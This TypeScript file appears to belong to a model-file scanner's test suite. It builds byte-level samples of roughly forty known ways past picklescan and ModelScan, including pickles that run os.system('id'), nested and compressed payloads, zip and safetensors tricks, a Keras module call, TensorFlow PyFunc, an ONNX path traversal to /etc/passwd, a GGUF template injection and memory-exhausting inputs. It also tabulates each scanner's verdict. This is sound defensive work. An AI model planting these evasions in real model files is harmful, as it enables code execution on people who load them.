/**
 * Ways in which scanners of model files were walked round, each built here from instructions. In: nothing. Out: for each,
 * a file, our verdict, and what follows from what picklescan 1.0.5 and ModelScan 0.8.8 publish: lists, issues, test files.
 * `docs/model-scanning.md` prints the table; `bypass-classes.test.ts` holds both.
 */
import { deflateSync, gzipSync } from "node:zlib";
import { op } from "../pickle/opcodes.ts";
import type { Verdict } from "../verdict.ts";
import { field, npy, safetensors, zip } from "./archives.ts";
import {
  build,
  bytesOf,
  call,
  data,
  dict,
  global,
  int,
  proto,
  stackGlobal,
  stream,
  text,
  tuple,
  u32,
  u64,
} from "./assemble.ts";

export interface BypassClass {
  readonly what: string;
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly ours: Verdict;
  readonly picklescan: string;
  readonly modelscan: string;
}

const attack = stream(call(global("os", "system"), text("id")));
const run = (module: string, name: string, ...args: readonly Uint8Array[]): Uint8Array =>
  stream(call(global(module, name), ...args));
const none = bytesOf(op.NONE);
const pickle = (
  what: string,
  bytes: Uint8Array,
  ours: Verdict,
  picklescan: string,
  modelscan: string,
): BypassClass => ({
  what,
  name: "model.pkl",
  bytes,
  ours,
  picklescan,
  modelscan,
});
const file = (
  what: string,
  name: string,
  bytes: Uint8Array,
  ours: Verdict,
  picklescan: string,
  modelscan: string,
): BypassClass => ({
  what,
  name,
  bytes,
  ours,
  picklescan,
  modelscan,
});

const tfNode = (operator: string): Uint8Array => field(1, bytesOf(field(1, "a"), field(2, operator)));
const saved = (...graph: readonly Uint8Array[]): Uint8Array =>
  bytesOf(field(1, 1), field(2, field(2, bytesOf(...graph))));
const onnx = (...graph: readonly Uint8Array[]): Uint8Array =>
  bytesOf(field(1, 8), field(7, bytesOf(field(1, bytesOf(field(2, "y"), field(4, "Relu"))), ...graph)));

const silent = "no statement";
const notAPickle = "not a pickle";
const suspicious = "suspicious, exit 0";
const onNoList = "passes (on no list)";
const notRead = "not read";

export const bypassClasses: readonly BypassClass[] = [
  pickle("a callable that is on no list", run("mailcap", "findmatch", text("x")), "dangerous", suspicious, onNoList),
  pickle("a module nobody knows", run("some_package.utils", "load", text("x")), "unknown-import", suspicious, onNoList),
  pickle(
    "names put together through the memo",
    stream(
      text("system"),
      op.BINPUT,
      9,
      op.POP,
      text("os"),
      op.MEMOIZE,
      op.BINGET,
      9,
      op.STACK_GLOBAL,
      tuple(text("id")),
      op.REDUCE,
    ),
    "dangerous",
    "found since #14, #22",
    "missed (#85)",
  ),
  pickle(
    "a memo entry that was never stored, after the call",
    bytesOf(proto(4), call(global("os", "system"), text("id")), op.BINGET, 7),
    "dangerous",
    "found since GHSA-9gvj-pp9x-gcfr",
    "stops, says nothing (#338)",
  ),
  pickle(
    "a number where a module's name must be",
    stream(int(1), text("system"), op.STACK_GLOBAL),
    "malformed",
    silent,
    silent,
  ),
  pickle(
    "a dotted name through another module",
    stream(bytesOf(stackGlobal("torch", "serialization.os.system"), tuple(text("id")), op.REDUCE)),
    "dangerous",
    "suspicious, exit 0 (PickleBall)",
    "passes (PickleBall)",
  ),
  pickle("INST", bytesOf(op.MARK, text("id"), op.INST, "os\nsystem\n", op.STOP), "dangerous", silent, silent),
  pickle("OBJ", bytesOf(op.MARK, global("os", "system"), text("id"), op.OBJ, op.STOP), "dangerous", silent, silent),
  pickle(
    "a name cut off by the end of the file",
    bytesOf(op.MARK, text("id"), op.INST, "os\nsystem!"),
    "dangerous",
    silent,
    silent,
  ),
  pickle(
    "attributes of a function written by BUILD",
    stream(build(global("numpy", "size"), tuple(none, dict(text("shape"), int(1))))),
    "dangerous",
    silent,
    "missed (#330)",
  ),
  pickle(
    "a `__setstate__` brought by the state",
    stream(build(call(global("argparse", "Namespace")), dict(text("__setstate__"), global("builtins", "len")))),
    "dangerous",
    silent,
    silent,
  ),
  pickle(
    "getattr down to `__globals__`",
    run("builtins", "getattr", global("torch", "Tensor"), text("__globals__")),
    "dangerous",
    "found",
    "found",
  ),
  pickle(
    "pkgutil.resolve_name",
    run("pkgutil", "resolve_name", text("os:system")),
    "dangerous",
    "found since GHSA-vvpj-8cmc-gx39",
    onNoList,
  ),
  pickle("importlib.import_module", run("importlib", "import_module", text("os")), "dangerous", suspicious, onNoList),
  pickle(
    "functools.partial over a callable",
    run("functools", "partial", global("os", "system"), text("id")),
    "dangerous",
    "found",
    "found",
  ),
  pickle(
    "an extension code of copyreg",
    stream(op.EXT1, 7, tuple(text("id")), op.REDUCE),
    "unknown-import",
    silent,
    silent,
  ),
  pickle(
    "a NumPy type that lies about holding objects",
    stream(
      build(
        call(global("numpy", "dtype"), text("O8"), int(0), int(1)),
        tuple(int(3), text("|"), none, none, none, int(-1), int(-1), int(0)),
      ),
    ),
    "dangerous",
    "clean (numpy.dtype is on the safe list)",
    onNoList,
  ),
  pickle(
    "a formula that statsmodels evaluates",
    stream(
      build(
        bytesOf(global("statsmodels.base.data", "PandasData"), op.EMPTY_TUPLE, op.NEWOBJ),
        dict(text("restore_design_info"), int(1), text("formula"), text("y ~ I(__import__('os').system('id'))")),
      ),
    ),
    "unknown-import",
    suspicious,
    onNoList,
  ),
  pickle("pickle.loads on bytes", run("pickle", "loads", data(attack)), "dangerous", "found", "found"),
  pickle(
    "torch.storage._load_from_bytes",
    run("torch.storage", "_load_from_bytes", data(attack)),
    "dangerous",
    suspicious,
    onNoList,
  ),
  pickle(
    "a pickle that waits in a constant",
    stream(dict(text("w"), data(attack))),
    "dangerous",
    "clean (the outer stream imports nothing)",
    "not found (#267)",
  ),
  pickle(
    "the same in base64",
    stream(dict(text("w"), text(Buffer.from(attack).toString("base64")))),
    "dangerous",
    "clean (the outer stream imports nothing)",
    "not found (#267)",
  ),
  pickle(
    "the stream ends before STOP",
    bytesOf(proto(4), call(global("os", "system"), text("id"))),
    "dangerous",
    "found",
    silent,
  ),
  pickle(
    "bad bytes behind the call",
    bytesOf(attack.subarray(0, -1), op.SHORT_BINUNICODE, 1, 0xff, op.STOP),
    "dangerous",
    "found",
    silent,
  ),
  pickle("a second pickle behind the first", bytesOf(stream(int(1)), attack), "dangerous", "found", silent),
  pickle("frames that lie", bytesOf(proto(4), op.FRAME, u64(3), text("abc"), op.STOP), "malformed", silent, silent),
  pickle(
    "a memo index that fills the memory",
    stream(op.NONE, op.LONG_BINPUT, "\xff\xff\xff\xff"),
    "dangerous",
    silent,
    silent,
  ),
  pickle(
    "nested tuples whose hash never ends",
    stream(
      op.EMPTY_DICT,
      tuple(),
      ...Array.from({ length: 60 }, () => [op.DUP, op.TUPLE2]).flat(),
      op.NONE,
      op.SETITEM,
    ),
    "dangerous",
    silent,
    silent,
  ),
  file(
    "a joblib dump compressed by gzip",
    "model.joblib",
    gzipSync(attack),
    "dangerous",
    "clean (not decompressed)",
    silent,
  ),
  file("the same by zlib", "model.joblib", deflateSync(attack), "dangerous", "clean (not decompressed)", silent),
  file("an object array in .npy", "a.npy", npy("'|O'", "(1,)", attack), "dangerous", "found", silent),
  file(
    "an object array in .npz",
    "a.npz",
    zip({ name: "a.npy", content: npy("'|O'", "(1,)", attack) }),
    "dangerous",
    "found",
    notRead,
  ),
  file(
    "a zip whose encryption flag is set for show",
    "a.zip",
    zip({ name: "data.pkl", content: attack, flags: 1 }),
    "dangerous",
    "found (its own test file)",
    silent,
  ),
  file(
    "a zip whose directory names another file",
    "a.zip",
    zip({ name: "a.txt", content: Buffer.from("x"), local: { name: "data.pkl" } }),
    "malformed",
    "found (its own test file)",
    silent,
  ),
  file(
    "a pickle in front of a zip",
    "model.pt",
    bytesOf(attack, zip({ name: "a.txt", content: Buffer.from("x") })),
    "dangerous",
    silent,
    silent,
  ),
  file("a pickle called .safetensors", "model.safetensors", attack, "dangerous", silent, notRead),
  file(
    "safetensors with a name twice",
    "m.safetensors",
    safetensors(
      '{"w":{"dtype":"U8","shape":[0],"data_offsets":[0,0]},"w":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}',
    ),
    "malformed",
    notAPickle,
    notRead,
  ),
  file(
    "a 7z archive",
    "model.bin",
    bytesOf("7z\xbc\xaf\x27\x1c", new Uint8Array(40)),
    "unsupported",
    "fails without py7zr",
    notRead,
  ),
  file(
    "a Lambda layer in .keras",
    "m.keras",
    zip(
      { name: "metadata.json", content: Buffer.from("{}") },
      {
        name: "config.json",
        content: Buffer.from(
          '{"class_name":"Lambda","module":"keras.layers","config":{"function":{"class_name":"__lambda__","config":{"code":"4wE="}}}}',
        ),
      },
    ),
    "dangerous",
    notAPickle,
    "medium",
  ),
  file(
    "a module outside of Keras (CVE-2025-1550)",
    "m.keras",
    zip(
      { name: "metadata.json", content: Buffer.from("{}") },
      { name: "config.json", content: Buffer.from('{"class_name":"function","module":"os","config":"system"}') },
    ),
    "dangerous",
    notAPickle,
    "not found (looks for Lambda only)",
  ),
  file(
    "PyFunc inside a TensorFlow function",
    "saved_model.pb",
    saved(
      tfNode("Const"),
      field(2, field(1, bytesOf(field(1, field(1, "f")), field(3, bytesOf(field(1, "b"), field(2, "EagerPyFunc")))))),
    ),
    "dangerous",
    notAPickle,
    onNoList,
  ),
  file(
    "ONNX weights at ../../etc/passwd",
    "m.onnx",
    onnx(field(5, field(13, bytesOf(field(1, "location"), field(2, "../../etc/passwd"))))),
    "dangerous",
    notAPickle,
    notRead,
  ),
  file(
    "a GGUF chat template that runs code (CVE-2024-34359)",
    "m.gguf",
    bytesOf(
      "GGUF",
      u32(3),
      u64(0),
      u64(1),
      u64(23),
      "tokenizer.chat_template",
      u32(8),
      u64(45),
      "{{ cycler.__init__.__globals__.os.popen(1) }}",
    ),
    "dangerous",
    notAPickle,
    notRead,
  ),
  file(
    "custom code by auto_map",
    "config.json",
    Buffer.from('{"auto_map":{"AutoModel":"modeling.Net"}}'),
    "unknown-import",
    notAPickle,
    notRead,
  ),
];

/** The table as Markdown. */
export function bypassTable(): string {
  const rows = bypassClasses.map(
    ({ what, ours, picklescan, modelscan }) => `| ${what} | \`${ours}\` | ${picklescan} | ${modelscan} |`,
  );
  return ["| way round | Cordon | picklescan 1.0.5 | ModelScan 0.8.8 |", "| --- | --- | --- | --- |", ...rows].join(
    "\n",
  );
}
